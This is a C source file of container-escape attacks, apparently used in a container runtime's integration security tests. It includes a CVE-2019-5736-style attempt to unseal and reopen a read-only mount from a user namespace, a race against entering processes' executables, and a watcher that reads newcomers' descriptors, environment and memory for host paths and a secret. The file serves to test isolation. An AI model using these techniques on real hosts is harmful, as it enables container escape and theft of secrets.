/* The attackers of integration/security: attacker WORD [ARGUMENT...]. Each word is one attack, run inside a container as its
 * program; what it got it prints, and it exits with 0 when it got through, 1 when it did not, 2 when it was not told what to
 * do. Build: cc -static -O1 -Wall -Werror -pthread -o attacker attacker.c */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/mount.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

struct attack {
	const char *word;
	int (*run)(int argc, char **argv);
};

/* Opens for writing what a descriptor refers to. */
static int reopen(int fd)
{
	char path[64];
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	return open(path, O_WRONLY | O_CLOEXEC);
}

static int unseal_mount(int fd)
{
	struct mount_attr writable = { .attr_clr = MOUNT_ATTR_RDONLY };
	return syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &writable, sizeof(writable));
}

/* CVE-2019-5736: unseal FILE: makes the mount of FILE writable from a user namespace of our own, and opens it for writing. */
static int unseal(int argc, char **argv)
{
	int fd = argc > 1 ? open(argv[1], O_PATH | O_CLOEXEC) : -1;
	if (fd < 0 || unshare(CLONE_NEWUSER | CLONE_NEWNS))
		return 2;
	int unsealed = unseal_mount(fd);
	printf("mount_setattr: %s\n", unsealed ? strerror(errno) : "done");
	int opened = reopen(fd);
	printf("open: %s\n", opened < 0 ? strerror(errno) : "done");
	return unsealed == 0 || opened >= 0 ? 0 : 1;
}

/* The same with every process that comes, while it comes, for SECONDS. The one who unseals waits in a user namespace and
 * shares our descriptors; the one who opens keeps the capability to look into others. */
static int unseal_next(int argc, char **argv)
{
	if (argc < 2)
		return 2;
	volatile int *shared = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	shared[0] = shared[1] = shared[2] = -1;
	long helper = syscall(SYS_clone, CLONE_FILES | SIGCHLD, 0, 0, 0, 0);
	if (helper == 0) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		if (unshare(CLONE_NEWUSER | CLONE_NEWNS))
			_exit(2);
		shared[2] = 0;
		for (;;) {
			int fd = shared[0];
			if (fd < 0)
				continue;
			shared[1] = unseal_mount(fd) ? errno : 0;
			shared[0] = -1;
		}
	}
	while (shared[2] < 0)
		if (waitpid(helper, NULL, WNOHANG) == helper)
			return 2;
	struct stat own, other;
	stat("/proc/self/exe", &own);
	int seen = 0, got = 0;
	alarm(atoi(argv[1]) + 10);
	puts("ready");
	fflush(stdout);
	for (time_t end = time(NULL) + atoi(argv[1]); time(NULL) < end && !got;) {
		for (int pid = getpid() + 2; pid < getpid() + 400 && !got; pid++) {
			char path[64];
			snprintf(path, sizeof(path), "/proc/%d/exe", pid);
			int fd = open(path, O_PATH | O_CLOEXEC);
			if (fd < 0)
				continue;
			if (!fstat(fd, &other) && (other.st_ino != own.st_ino || other.st_dev != own.st_dev)) {
				seen++;
				shared[0] = fd;
				while (shared[0] >= 0)
					;
				got = shared[1] == 0;
			}
			close(fd);
		}
	}
	kill(helper, SIGKILL);
	printf("seen %d, %s\n", seen, got ? "unsealed" : "not unsealed");
	return got ? 0 : 1;
}

/* True when `mark`, a path of the host without its leading slash, is found from the directory or above it. */
static int reaches(int directory, const char *mark)
{
	char path[4352];
	for (int up = 0; up < 8; up++) {
		int at = 0;
		for (int n = 0; n < up; n++)
			at += sprintf(path + at, "../");
		snprintf(path + at, sizeof path - at, "%s", mark);
		if (!faccessat(directory, path, F_OK, AT_SYMLINK_NOFOLLOW))
			return 1;
	}
	return 0;
}

/* True when the file of process `pid` can be read and holds `secret`. */
static int holds(int pid, const char *name, const char *secret)
{
	static char text[1 << 20];
	char path[64];
	snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return 0;
	ssize_t length = read(fd, text, sizeof text);
	close(fd);
	return length > 0 && memmem(text, length, secret, strlen(secret));
}

/* True when what is mapped writable in process `pid` holds `secret`. */
static int remembers(int pid, const char *secret)
{
	static char text[1 << 20];
	char path[64], line[512];
	snprintf(path, sizeof path, "/proc/%d/mem", pid);
	int mem = open(path, O_RDONLY | O_CLOEXEC), found = 0;
	snprintf(path, sizeof path, "/proc/%d/maps", pid);
	FILE *maps = mem < 0 ? NULL : fopen(path, "re");
	while (maps && !found && fgets(line, sizeof line, maps)) {
		unsigned long begin, end;
		char access[5];
		if (sscanf(line, "%lx-%lx %4s", &begin, &end, access) != 3 || access[1] != 'w')
			continue;
		size_t size = end - begin < sizeof text ? end - begin : sizeof text;
		/* of a stack the end is what is used */
		ssize_t length = pread(mem, text, size, end - size);
		found = length > 0 && memmem(text, length, secret, strlen(secret));
	}
	if (maps)
		fclose(maps);
	if (mem >= 0)
		close(mem);
	return found;
}

/* What each process showed is written once. */
static void got(FILE *out, int pid, const char *what, const char *more)
{
	static char last[64][512];
	static int count;
	char line[512];
	snprintf(line, sizeof line, "%s %s", what, more);
	for (int n = 0; n < count && n < 64; n++)
		if (!strcmp(last[n], line))
			return;
	if (count < 64)
		strcpy(last[count++], line);
	fprintf(out, "%d: %s\n", pid, line);
	fflush(out);
}

static int look_at_descriptors(FILE *out, int pid, const char *mark)
{
	char path[64], to[256];
	int through = 0;
	snprintf(path, sizeof path, "/proc/%d/fd", pid);
	DIR *directory = opendir(path);
	for (struct dirent *entry; directory && (entry = readdir(directory));) {
		if (atoi(entry->d_name) < 3)
			continue;
		ssize_t length = readlinkat(dirfd(directory), entry->d_name, to, sizeof to - 1);
		if (length < 0)
			continue;
		to[length] = 0;
		int namespace = strstr(to, ":[") && strncmp(to, "socket:", 7) && strncmp(to, "pipe:", 5);
		int fd = openat(dirfd(directory), entry->d_name, O_PATH | O_CLOEXEC);
		if (namespace || strstr(to, "[pidfd]") || (fd >= 0 && reaches(fd, mark))) {
			through = 1;
			got(out, pid, "fd", to);
		}
		if (fd >= 0)
			close(fd);
	}
	if (directory)
		closedir(directory);
	return through;
}

/* joiner FOUND STOP MARK SECRET: looks at every process that comes into this pid namespace, from its first moment on: whether
 * its root directory, its working directory or a descriptor leads to the host's file MARK, and whether its command line
 * is the runtime's, and its environment or memory holds SECRET, which is in
 * the runtime's environment and is told backwards. What it finds is written to FOUND, until
 * there is a file STOP. */
static int joiner(int argc, char **argv)
{
	if (argc != 5)
		return 2;
	FILE *out = fopen(argv[1], "we");
	const char *mark = argv[3] + (argv[3][0] == '/');
	/* backwards, or config.json would hold it, and the memory of every newcomer */
	char secret[64] = "";
	for (size_t n = 0, length = strlen(argv[4]); n < length && n < 63; n++)
		secret[n] = argv[4][length - 1 - n];
	int through = 0, last = getpid();
	if (!out)
		return 2;
	fputs("looking\n", out);
	fflush(out);
	for (unsigned long turn = 0; turn % 4096 || access(argv[2], F_OK); turn++) {
		int seen = 0;
		for (int pid = last + 1; pid <= last + 32 && !seen; pid++) {
			char path[64];
			snprintf(path, sizeof path, "/proc/%d", pid);
			int here = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
			if (here < 0)
				continue;
			seen = 1;
			int looks = 0;
			/* as long as it is there */
			for (struct stat st; !fstatat(here, "stat", &st, 0) && looks < 3000; looks++) {
				const char *links[] = {"root", "cwd"};
				for (int n = 0; n < 2; n++) {
					int fd = openat(here, links[n], O_PATH | O_CLOEXEC);
					if (fd < 0)
						continue;
					if (reaches(fd, mark)) {
						through = 1;
						got(out, pid, links[n], "leads to the host");
					}
					close(fd);
				}
				through |= look_at_descriptors(out, pid, mark);
				if (holds(pid, "environ", secret)) {
					through = 1;
					got(out, pid, "environ", "holds the secret");
				}
				/* an option of every call of the runtime in the tests */
				if (holds(pid, "cmdline", "--root")) {
					through = 1;
					got(out, pid, "cmdline", "is the runtime's");
				}
				if (remembers(pid, secret)) {
					through = 1;
					got(out, pid, "memory", "holds the secret");
				}
			}
			fprintf(out, "seen %d\n", pid);
			fflush(out);
			close(here);
			last = pid;
		}
	}
	fputs(through ? "through\n" : "nothing\n", out);
	fclose(out);
	return !through;
}

/* One line for each attack, sorted by word. */
static const struct attack attacks[] = {
	{ "joiner", joiner },
	{ "unseal", unseal },
	{ "unseal-next", unseal_next },
	{ NULL, NULL },
};

int main(int argc, char **argv)
{
	for (const struct attack *a = attacks; argc > 1 && a->word; a++)
		if (!strcmp(a->word, argv[1]))
			return a->run(argc - 1, argv + 1);
	fputs("usage: attacker WORD [ARGUMENT...], with one of the words:\n", stderr);
	for (const struct attack *a = attacks; a->word; a++)
		fprintf(stderr, "  %s\n", a->word);
	return 2;
}
